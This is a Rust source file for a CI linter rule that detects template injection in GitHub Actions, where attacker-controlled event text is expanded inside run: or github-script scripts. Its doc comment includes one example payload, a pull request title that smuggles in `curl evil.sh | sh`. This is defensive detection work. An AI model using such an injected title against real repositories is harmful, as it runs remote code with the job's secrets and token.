//! ## What it does
//! Reports attacker-controllable expressions expanded inside a `run:` script
//! or the `script:` of `actions/github-script`:
//! - `github.event.*` text that the author of an issue, comment, pull
//!   request, commit or page chooses: titles, bodies, commit messages,
//!   author names and e-mails, head refs and labels, page names, the
//!   `workflow_run` head branch and display title, and whole objects that
//!   contain them (`toJSON(github.event.pull_request)`);
//! - `github.event.client_payload.*` (a `repository_dispatch` sender's
//!   payload; medium confidence);
//! - `github.head_ref`;
//! - `inputs.*` inside a composite action (the caller decides them, and
//!   callers often pass event text through).
//!
//! Only the paths whose text can reach the expression's result count:
//! `a || b` can yield either, `a && b` yields `b` (or a falsy `a`: empty
//! text, nothing to inject), and `format`, `join`, `toJSON`, `fromJSON`
//! and other functions yield their arguments.
//!
//! Deliberately not flagged: expressions that can only produce fixed text,
//! a number or a boolean (`${{ cond && 'literal' || '' }}`, comparisons,
//! `!x`, `contains`/`startsWith`/`endsWith`, `success()` and its kin,
//! `hashFiles(...)`) and numeric fields such as `github.event.issue.number`.
//! Not covered yet: `github.event.inputs.*`, the `inputs.*` of workflows,
//! `matrix.*`, `env.*`, step outputs, and sinks other than `run:` and
//! github-script's `script:`. An expression the reader does not understand
//! counts every path it reads, so a gap never hides a finding.
//!
//! ## Why is this bad?
//! `${{ }}` is expanded into the script text before the shell runs it. A
//! pull request titled `a"; curl evil.sh | sh; echo "` becomes part of your
//! script and runs with the job's secrets and token.
//!
//! ## Example
//! ```yaml
//!       - run: echo "${{ github.event.issue.title }}"
//! ```
//!
//! ## Fix
//! Pass the value through an environment variable, which the shell treats
//! as data:
//! ```yaml
//!       - run: echo "$TITLE"
//!         env:
//!           TITLE: ${{ github.event.issue.title }}
//! ```
//!
//! ## Ignore
//! `# ci-intel: ignore[template-injection]` on the line of the expression
//! (inside the script, as a shell comment) or on the `run:` line.

use ci_intel_core::{Confidence, Severity};

use super::Rule;
use crate::audit::expr;
use crate::audit::model::{Ctx, Hit};
use crate::audit::yaml::Node;
use crate::config::Persona;

pub const RULE: Rule = Rule {
    id: "template-injection",
    title: "Attacker-controllable expression expanded in a script",
    default_severity: Severity::High,
    persona: Persona::Regular,
    check,
};

const TEXT_SUFFIXES: &[&str] = &[
    ".title",
    ".body",
    ".message",
    ".display_title",
    ".page_name",
    ".head_branch",
    ".head.ref",
    ".head.label",
    ".head_ref",
    ".author.email",
    ".author.name",
    ".committer.email",
    ".committer.name",
    ".head.repo.default_branch",
    ".head.repo.description",
];

const WHOLE_OBJECTS: &[&str] = &[
    "github.event",
    "github.event.issue",
    "github.event.comment",
    "github.event.review",
    "github.event.review_comment",
    "github.event.pull_request",
    "github.event.pull_request.head",
    "github.event.discussion",
    "github.event.head_commit",
    "github.event.commits",
    "github.event.workflow_run",
    "github.event.pages",
];

/// Why `path` is attacker-controllable, if it is.
fn dangerous(path: &str, composite: bool) -> Option<Confidence> {
    if path == "github.head_ref" {
        return Some(Confidence::High);
    }
    if path.starts_with("github.event.") {
        if path.starts_with("github.event.inputs.") {
            return None;
        }
        // repository_dispatch: whatever the sender put in the payload.
        if path.starts_with("github.event.client_payload") {
            return Some(Confidence::Medium);
        }
        if TEXT_SUFFIXES.iter().any(|s| path.ends_with(s)) {
            return Some(Confidence::High);
        }
    }
    if WHOLE_OBJECTS.contains(&path) {
        return Some(Confidence::Medium);
    }
    if composite && path.starts_with("inputs.") {
        return Some(Confidence::Medium);
    }
    None
}

fn check(ctx: &Ctx<'_>, hits: &mut Vec<Hit>) {
    let composite = ctx.is_composite();
    for step in ctx.steps() {
        // (what, key, value): an ignore comment on the key's line counts too.
        let mut scripts: Vec<(&str, &Node, &Node)> = Vec::new();
        if let Some((key, run)) = step.node.entry("run") {
            scripts.push(("a `run:` script", key, run));
        }
        if let Some(uses) = step.uses()
            && uses.is_action("actions/github-script")
            && let Some((key, script)) = step.node.get("with").and_then(|w| w.entry("script"))
        {
            scripts.push(("actions/github-script `script:`", key, script));
        }
        for (what, key, node) in scripts {
            let Some(text) = node.as_str() else { continue };
            for found in expr::expressions(text) {
                for path in expr::output_paths(found.inner) {
                    let Some(confidence) = dangerous(&path, composite) else {
                        continue;
                    };
                    let pos = ctx.src.locate(node.pos, found.raw).unwrap_or(node.pos);
                    hits.push(
                        Hit::new(
                            RULE.id,
                            Severity::High,
                            pos,
                            format!("{}:{path}", step.describe()),
                            format!(
                                "{} expands `{path}` inside {what}: whoever controls it can inject code into the script",
                                step.describe()
                            ),
                        )
                        .confidence(confidence)
                        .also_line(key.pos.line)
                        .fix("pass it through `env:` (e.g. `TITLE: ${{ ... }}`) and use \"$TITLE\" in the script"),
                    );
                }
            }
        }
    }
}
